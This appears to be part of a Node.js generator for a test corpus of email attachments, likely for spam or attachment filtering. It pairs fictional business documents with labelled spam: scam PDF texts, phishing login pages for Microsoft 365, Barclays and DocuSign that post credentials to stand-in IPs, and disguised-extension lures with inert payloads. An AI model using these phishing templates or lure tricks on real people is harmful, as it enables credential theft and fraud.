    ['inv-vos', 'Factuur_VOS-25-0611.pdf', 'Bakkerij Vos - Factuur VOS-25-0611', ['Bakkerij Vos BV, Kerkstraat 41, Utrecht (fictional)', 'Klant: Groenveld BV, kantine', 'Periode: november 2025', '', 'Broodjes lunch (22 werkdagen) ............ EUR 1.144,00', 'Gebak vrijdagmiddag (4x) ................. EUR 168,00', 'Subtotaal ................................ EUR 1.312,00', 'BTW 9% ................................... EUR 118,08', 'Totaal ................................... EUR 1.430,08', '', 'Betaling binnen 14 dagen o.v.v. factuurnummer.']],
    ['inv-lefevre', 'Facture_ML-2025-388.pdf', 'Maison Lefevre - Facture ML-2025-388', ['Maison Lefevre SARL, 7 rue des Tanneurs, Lyon (fictional)', 'Client : Auerbach Kliniken GmbH', 'Date : 14/10/2025    Echeance : 13/11/2025', '', 'Linge de lit hospitalier, lot de 200 ..... EUR 3 180,00', 'Transport ................................ EUR 140,00', 'Total HT ................................. EUR 3 320,00', 'Autoliquidation de TVA (art. 283-2 CGI)', '', 'Reglement : virement ou PayPal (voir e-mail).']],
    ['inv-lowe', 'Lowe-Pottery-Invoice-0217.pdf', 'Lowe Pottery - Invoice 0217', ['Lowe Pottery, Unit 3 Canal Yard, Stroud (fictional)', 'Bill to: Bramble Coffee Roasters (cafe fit-out)', '', '120 x Stoneware cups, 8oz, speckle glaze ..... GBP 1,080.00', '120 x Saucers ................................ GBP 540.00', 'Packing and delivery ......................... GBP 45.00', 'Total ........................................ GBP 1,665.00', '', 'Pay by bank transfer (details unchanged) or PayPal to hettie@lowepottery.example']],
    ['inv-cobalt-may', 'INV-2026-0577.pdf', 'Cobalt Hosting - Invoice INV-2026-0577', ['Cobalt Hosting Ltd, 4 Quay Street, Bristol BS1 4XX (fictional)', 'Bill to: Quillfield Software Ltd', 'Invoice date: 01 May 2026    Due: 15 May 2026', '', 'Dedicated server DS-2, May 2026 ........... GBP 189.00', 'Additional IPv4 (x2) ...................... GBP 6.00', 'VAT 20% ................................... GBP 39.00', 'Total due ................................. GBP 234.00', '', 'Bank transfer: account details as on previous invoices (unchanged).']],
    ['stmt-greenleaf', 'Greenleaf-Statement-2026-03.pdf', 'Greenleaf Office Supplies - Statement March 2026', ['Customer: Harrow & Finch Architects, account 20-5120', '', '10387-A  12 Jan 2026  GBP 212.40  paid', '10512    03 Feb 2026  GBP 96.00   OVERDUE (due 05 Mar)', '10590    24 Feb 2026  GBP 318.75  due 26 Mar', '', 'Balance outstanding ......................... GBP 414.75', '', 'Our bank details have not changed. We will never ask you by email to pay a new account.']],
    ['quote-marisol', 'Presupuesto_MC-2026-031.pdf', 'Marisol Ceramica - Presupuesto MC-2026-031', ['Marisol Ceramica SL, Calle Alfareros 12, Valencia (fictional)', 'Cliente: Holloway Farm Shop', '', 'Azulejo artesanal 13x13, verde oliva (40 m2) .. EUR 2.360,00', 'Cenefa decorada (22 m lineales) ............... EUR 594,00', 'Embalaje y transporte a Reino Unido ........... EUR 410,00', 'Total ......................................... EUR 3.364,00', '', 'Validez de la oferta: 45 dias. Plazo de fabricacion: 4 semanas.']],
    ['quote-northstar', 'Northstar-HVAC-Quote-7713.pdf', 'Northstar HVAC - Quote 7713 (preventive maintenance)', ['Northstar HVAC Services, Chicago IL (fictional)', 'Site: Kestrel Biotech, Building B', '', 'Quarterly PM, 6 rooftop units ............... USD 4,320.00 / yr', 'Filter changes (MERV 13) included', 'Emergency call-out, 4h response ............. USD 1,150.00 / yr', 'Total annual contract ....................... USD 5,470.00', '', 'Prices held until 30 June 2026.']],
    ['quote-quillfield', 'Quillfield-Quote-Q-1042.pdf', 'Quillfield Software - Quote Q-1042', ['Quillfield Software Ltd (fictional)', 'Prepared for: Osterhagen Maschinenbau GmbH', '', 'Integration connector licence, 1 year ...... EUR 7,200', 'Implementation (5 days) .................... EUR 5,500', 'Training (remote, 2 sessions) .............. EUR 900', 'Total ...................................... EUR 13,600', '', 'Valid until 31 January 2026.']],
    ['notes-workshop', 'Workshop-notes-2025-11-18.pdf', 'Discovery workshop notes - Halvorsen Freight / Meridian', ['Date: 18 Nov 2025, Oslo office', 'Attendees: E. Halvorsen, K. Dahl, P. Nyberg (Meridian), L. Moreau (Meridian)', '', '1. Legacy CRM holds 48k contacts, ~9k duplicates expected', '2. Pipelines: keep 4 of 6, merge "Tender" into "Proposal"', '3. Activity history: import 3 years, archive the rest', '4. Owner mapping file due from Halvorsen by 28 Nov', '', 'Next workshop: 2 Dec, data mapping walkthrough']],
    ['receipt-orchard', 'Orchard-Receipt-2026-0412.pdf', 'Orchard Analytics - Receipt 2026-0412', ['Orchard Analytics Inc. (fictional)', 'Customer: Lumen Fitness Studios', 'Annual renewal, Growth plan, 5 seats', '', 'Amount charged ....................... USD 2,646.00', 'Payment method ....................... Visa ending 0921', 'Period ............................... 12 Apr 2026 - 11 Apr 2027']],
    ['hr-holiday', 'Holiday-calendar-2026.pdf', 'Anvil & Oak - Holiday calendar 2026', ['Office closed:', '1 Jan, 3 Apr, 6 Apr, 4 May, 25 May, 31 Aug, 25 Dec, 28 Dec', '', 'Shutdown between Christmas and New Year: 29-31 Dec (use 3 days of leave)', 'Carry-over: max 5 days into 2027, to be used by 31 March', '', 'Questions: people@anvil-oak.example']],
    ['hr-benefits', 'Benefits-Guide-2026.pdf', 'Carrow Industrial Supply - Benefits guide 2026', ['Open enrollment: 3 - 21 November 2025', 'Medical: two plans (PPO and HDHP with HSA)', 'Dental and vision: unchanged premiums', 'New: 401(k) match raised to 5%', '', 'Enroll in the HR portal. No action needed to keep your current plans.']],
    ['partner-deck', 'Partner-Program-2026.pdf', 'Valley CRM Partner Program 2026', ['Tiers: Registered, Silver, Gold', 'Referral fee: 15% of first-year subscription', 'Deal registration protects your deal for 90 days', 'New: co-marketing fund for Gold partners', '', 'Partner portal: https://partners.valley.example']],
    ['report-tickets-q1', 'Support-Q1-2026.pdf', 'Support report Q1 2026 (internal)', ['Tickets: 3,412 (+6% QoQ)', 'Median first response: 41 min', 'CSAT: 92%', 'Top topics: imports, SSO, campaign editor', '', 'Internal only.']],
  ];
  for (const [key, fn, title, lines] of pdfs) put(key, fn, PDF_CT, makePdf({ title, lines, date: '20260101090000' }));

  // ---- ham images / other ----
  put('logo-marisol', 'marisol.png', 'image/png', logoPng('#fdf6ec', '#b5651d'));
  put('logo-vos', 'vos-logo.png', 'image/png', logoPng('#fff3e0', '#8d4f1c', 110, 34));
  put('logo-polarroute', 'polarroute.png', 'image/png', logoPng('#0d3b66', '#f4d35e'));
  put('photo-tiles', 'tiles.png', 'image/png', photoPng(29));
  put('chart-forecast', 'forecast-q2.png', 'image/png', barChartPng([0.35, 0.5, 0.62, 0.74, 0.81], '#ef6c00'));
  put('qr-ticket', 'ticket-QR.png', 'image/png', qrPng('https://events.polarroute.example/t/PR26-0431-7781'));
  put('wav-voicemail', 'voicemail-2026-03-04-1012.wav', 'audio/wav', silentWav());
  put('ics-breakfast', 'invite.ics', 'text/calendar', ics('breakfast-2026-05@events.ironbridge-insure.example', '20260521T073000Z', '20260521T090000Z', 'Fleet risk breakfast - Ironbridge Insurance', 'The Quayside Rooms, Bristol (fictional)', 'events@ironbridge-insure.example', 'ben@anvil-oak.example'));
  put('ics-workshop', 'invite.ics', 'text/calendar', ics('ws2-halvorsen@meridian-consult.example', '20251202T090000Z', '20251202T120000Z', 'Data mapping workshop - Halvorsen / Meridian', 'Teams (link in description)', 'p.nyberg@meridian-consult.example', 'erik@halvorsen-freight.example'));
  put('ics-review-call', 'invite.ics', 'text/calendar', ics('pilot-review-77@pickwise-robotics.example', '20250924T150000Z', '20250924T154500Z', 'Pickwise pilot - week 6 review', 'Video call', 'hiro.tanaka@pickwise-robotics.example', 'g.oduya@redwater.example'));
  put('csv-contacts-fix', 'contacts-import-errors.csv', 'text/csv', 'row,email,error\n14,anna.m@,invalid email\n233,j.dahl@halvorsen-freight.example,duplicate of row 12\n1877,,missing email\n');
  put('csv-timesheet', 'timesheet-week-14.csv', 'text/csv', 'date,project,hours,notes\n2026-03-30,HAL-MIG,6.5,test migration\n2026-03-31,HAL-MIG,7.0,owner mapping\n2026-04-01,INTERNAL,3.0,training\n2026-04-02,HAL-MIG,8.0,cut-over rehearsal\n');
  put('docx-dpa', 'Data_Processing_Agreement_v2.docx', 'application/vnd.openxmlformats-officedocument.wordprocessingml.document', await zip([
    ['[Content_Types].xml', CT_DOCX],
    ['_rels/.rels', RELS('word/document.xml')],
    ['word/document.xml', wordDoc(['DATA PROCESSING AGREEMENT (v2, tracked changes accepted)', 'Controller: Auerbach Kliniken GmbH. Processor: Solvent Labs AB (both fictional).', 'Annex 2 - sub-processors updated (EU data region).'])],
  ]));
  put('xlsx-forecast', 'Q2-forecast-by-rep.xlsx', 'application/vnd.openxmlformats-officedocument.spreadsheetml.sheet', await zip([
    ['[Content_Types].xml', CT_XLSX],
    ['_rels/.rels', RELS('xl/workbook.xml')],
    ['xl/workbook.xml', workbook],
  ], new Date('2026-03-28T10:00:00Z')));
  put('zip-artwork', 'Bramble-cups-artwork.zip', 'application/zip', await zip([
    ['logo-stamp.png', logoPng('#ffffff', '#6d3b1f', 64, 64)],
    ['placement-notes.txt', 'Stamp 18 mm, 12 mm below rim, opposite the handle.\n'],
  ], new Date('2026-02-02T09:00:00Z')));
  put('html-report', 'campaign-report-march.html', 'text/html', '<!DOCTYPE html><html><head><meta charset="utf-8"><title>Campaign report March 2026</title></head><body style="font-family:Arial"><h2>Campaign report - March 2026</h2><table border="1" cellpadding="4"><tr><th>Campaign</th><th>Sent</th><th>Opens</th><th>Clicks</th></tr><tr><td>Spring menu</td><td>1,920</td><td>48%</td><td>6.1%</td></tr><tr><td>Trade price list</td><td>412</td><td>61%</td><td>14.8%</td></tr></table><p>Exported from Valley CRM. Details: <a href="https://portal.valley.example/reports/cmp">portal.valley.example/reports</a></p></body></html>\r\n');

  // ---- spam PDFs ----
  put('pdf-callback-norton', 'Invoice_NT-8837201.pdf', PDF_CT, makePdf({ title: 'Norton 360 Total Protection - Renewal Invoice', lines: ['Invoice no: NT-8837201', 'Product: Norton 360 Deluxe, 5 devices, 3 years', 'Amount: USD 399.99 (auto-renewal, charged today)', '', 'Did not authorise this renewal? Call our billing desk', 'within 24 hours for a full refund: +1 (808) 555-0199', '', 'Customer Care, 24/7'], producer: 'PDFgen' }));
  put('pdf-fake-toner', 'Invoice_TS-55120.pdf', PDF_CT, makePdf({ title: 'Toner Supply Services - Invoice TS-55120', lines: ['Ship to: Accounts Payable', 'Order ref: phone order, confirmed', '', '6 x Toner cartridge, compatible ........... USD 689.00', 'Shipping and handling ....................... USD 48.00', 'Total due ................................... USD 737.00', '', 'Payment due within 7 days. Pay by wire or check.'], producer: 'PDFgen' }));
  put('pdf-trademark', 'TM_Publication_Notice_2026.pdf', PDF_CT, makePdf({ title: 'WORLD TRADEMARK PUBLICATION REGISTER', lines: ['Publication notice for your trademark application', 'Trademark: as filed    Classes: 9, 35, 42', '', 'Publication in the register, 3 years ..... EUR 2,190.00', '', 'Payment within 8 days by bank transfer.', 'This is a solicitation for a private register. Not an official office.'], producer: 'PDFgen' }));
  put('pdf-lottery-cert', 'Award_Certificate.pdf', PDF_CT, makePdf({ title: 'INTERNATIONAL EMAIL PROMOTION AWARD', lines: ['Batch: 7/441/IEP    Ticket: 55120-882', 'Award: USD 950,000.00', '', 'Contact your claims agent with this certificate.', 'Processing and clearance fee applies.'], producer: 'PDFgen' }));

  // ---- spam QR codes ----
  put('qr-mfa', 'mfa-qr.png', 'image/png', qrPng('http://203.0.113.61/mfa/enroll?u=8812'));
  put('qr-docusign', 'Scan_to_view_document.png', 'image/png', qrPng('http://198.51.100.91/ds/envelope/7741'));
  put('qr-benefits', 'benefits.png', 'image/png', qrPng('https://hr-benefits-portal.test/2026/enroll'));
  put('qr-parcel', 'qr.png', 'image/png', qrPng('http://192.0.2.88/parcel/fee'));

  // ---- spam HTML attachments with login forms ----
  put('htm-remit-m365', 'Remittance_Advice_2026-03.htm', 'text/html', loginPage({ title: 'Remittance Advice', brand: 'Microsoft 365', color: '#0067b8', action: 'http://203.0.113.140/o365/rem.php', note: 'This document is protected. Sign in with your work account to view the remittance advice.' }));
  put('html-adobe', 'Adobe_Document_Cloud_Invoice.html', 'text/html', loginPage({ title: 'Adobe Document Cloud', brand: 'Adobe Acrobat', color: '#eb1000', action: 'http://198.51.100.200/adb/view.php', note: 'To read the shared PDF, confirm the email address it was sent to.' }));
  put('shtml-bank', 'Payment_Confirmation_0318.shtml', 'text/html', loginPage({ title: 'Online Banking', brand: 'Barclays Business', color: '#00aeef', action: 'http://192.0.2.201/bb/auth.php', note: 'Payment confirmation is available after login.', extra: '<input name="pin" placeholder="Passcode (6 digits)" style="width:100%;padding:8px;margin:6px 0">' }));
  put('htm-voicemail', 'VM_Playback_0047.htm', 'text/html', loginPage({ title: 'Voice Message', brand: 'Voicemail Center', color: '#2e7d32', action: 'http://203.0.113.19/vm/play.php', note: 'Sign in with your email account to play this voice message (00:47).' }));
  put('html-docusign', 'Completed_Document_DocuSign.html', 'text/html', loginPage({ title: 'DocuSign', brand: 'DocuSign', color: '#ffcc22', action: 'https://docusign-envelope-review.test/post', note: 'Select your email provider and sign in to access the completed document.' }));

  // ---- spam inert payloads ----
  put('exe-remit', 'Remittance_Copy_20260114.exe', 'application/x-msdownload', fakeExe('remit'));
  put('exe-spaces', 'Invoice_0392.pdf                                   .exe', 'application/octet-stream', fakeExe('spaces'));
  put('pif-statement', 'Bank_Statement_Feb.pif', 'application/octet-stream', fakeExe('pif'));
  put('js-rfq', 'RFQ_Quotation_Request_2026.js', 'text/javascript', 'WScript.Echo(1);\r\n');
  put('vbs-scan', 'Scan_HP_MFP_20251103.vbs', 'application/octet-stream', 'WScript.Echo 1\r\n');
  put('wsf-ship', 'Shipping_Label.wsf', 'application/octet-stream', '<job><script language="JScript">WScript.Echo(1);</script></job>\r\n');
  put('hta-docusign', 'DocuSign_Envelope_6631.hta', 'application/hta', '<html><head><title>DocuSign</title><HTA:APPLICATION ID="x"></head><body><script language="VBScript">MsgBox 1</script></body></html>\r\n');
  put('scr-quote', 'Quotation_Specs_Drawings.scr', 'application/octet-stream', fakeExe('scr2'));
  put('lnk-bonus', 'Bonus_Statement_2025.pdf.lnk', 'application/x-ms-shortcut', fakeLnk());
  put('iso-invoice', 'INV-Documents-Oct2025.iso', 'application/x-iso9660-image', fakeIso('INVOICE_OCT'));
  put('img-quote', 'Quote_Request_RFQ-118.img', 'application/octet-stream', fakeIso('RFQ_118'));
  put('zip-vbs', 'Order_Confirmation_44821.zip', 'application/zip', await zip([['Order_Confirmation_44821.vbs', 'WScript.Echo 1\r\n']]));
  put('zip-lnk', 'Scanned_Docs_Mar.zip', 'application/zip', await zip([['Scanned_Docs_Mar.pdf.lnk', fakeLnk()], ['page2.jpg', Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0, 0x10, 0x4a, 0x46, 0x49, 0x46, 0, 0x01, 0xff, 0xd9])]]));
  put('zip-js-de', 'Rechnung_2026_0311.zip', 'application/zip', await zip([['Rechnung_2026_0311.js', 'WScript.Echo(1);\r\n']]));
  put('zip-hta', 'Tracking_Details.zip', 'application/zip', await zip([['Tracking_Details.hta', '<html><body><script>document.write(1)</script></body></html>\r\n']]));
  put('zip-docm', 'Contract_Amendment.zip', 'application/zip', await zip([['Contract_Amendment.docm', await zip([
    ['[Content_Types].xml', CT_DOCM],
    ['_rels/.rels', RELS('word/document.xml')],
    ['word/document.xml', wordDoc(['Protected document.', 'Enable editing and enable content to decrypt.'])],
    ['word/vbaProject.bin', fakeOle('Attribute VB_Name = "ThisDocument"')],
  ])]]));
  put('docm-rechnung', 'Rechnung_RE-2026-0311.docm', 'application/vnd.ms-word.document.macroEnabled.12', await zip([
    ['[Content_Types].xml', CT_DOCM],
    ['_rels/.rels', RELS('word/document.xml')],
    ['word/document.xml', wordDoc(['Dieses Dokument ist geschuetzt.', 'Klicken Sie auf "Inhalt aktivieren", um die Rechnung anzuzeigen.'])],
    ['word/vbaProject.bin', fakeOle('Attribute VB_Name = "ThisDocument"')],
  ]));
  put('xlsm-payment', 'Payment_Schedule_Q2_2026.xlsm', 'application/vnd.ms-excel.sheet.macroEnabled.12', await zip([
    ['[Content_Types].xml', CT_XLSM],
    ['_rels/.rels', RELS('xl/workbook.xml')],
    ['xl/workbook.xml', workbook],
    ['xl/vbaProject.bin', fakeOle('Attribute VB_Name = "Module1"')],
  ]));
  put('doc-legacy', 'Factura_F-88120.doc', 'application/msword', fakeOle('WordDocument Macros ThisDocument'));
  put('xls-legacy', 'Ordine_PO-2026-77.xls', 'application/vnd.ms-excel', fakeOle('Workbook _VBA_PROJECT_CUR'));
  put('rar-proforma', 'Proforma_Invoice_PI-2291.rar', 'application/x-rar-compressed', fakeRar('corpus-stub'));
  put('svg-invoice', 'Invoice_Preview.svg', 'image/svg+xml', '<svg xmlns="http://www.w3.org/2000/svg" width="300" height="80"><script>document.write(1)</script><a href="http://198.51.100.45/inv/view"><text x="10" y="40">Open invoice</text></a></svg>\r\n');
}

function ics(uid, start, end, summary, location, organizer, attendee) {
  return [
    'BEGIN:VCALENDAR',
    'PRODID:-//Corpus//Calendar//EN',
    'VERSION:2.0',
    'METHOD:REQUEST',
    'BEGIN:VEVENT',
    `UID:${uid}`,
    `DTSTAMP:${start}`,
    `DTSTART:${start}`,
    `DTEND:${end}`,
    `SUMMARY:${summary}`,
    `LOCATION:${location}`,
    `ORGANIZER:mailto:${organizer}`,
    `ATTENDEE;ROLE=REQ-PARTICIPANT;RSVP=TRUE:mailto:${attendee}`,
    'END:VEVENT',
    'END:VCALENDAR',
    '',
  ].join('\r\n');
}

module.exports = { buildAll, makePdf, makePng };

if (require.main === module) {
  const out = process.argv[2];
  buildAll().then((A) => {
    for (const [k, v] of Object.entries(A)) {
      console.log(k.padEnd(18), String(v.data.length).padStart(6), v.contentType.padEnd(40), v.filename);
      if (out) {
        fs.mkdirSync(out, { recursive: true });
        fs.writeFileSync(path.join(out, k + '__' + v.filename.replace(/[^\w.-]/g, '_')), v.data);
      }
    }
  });
}
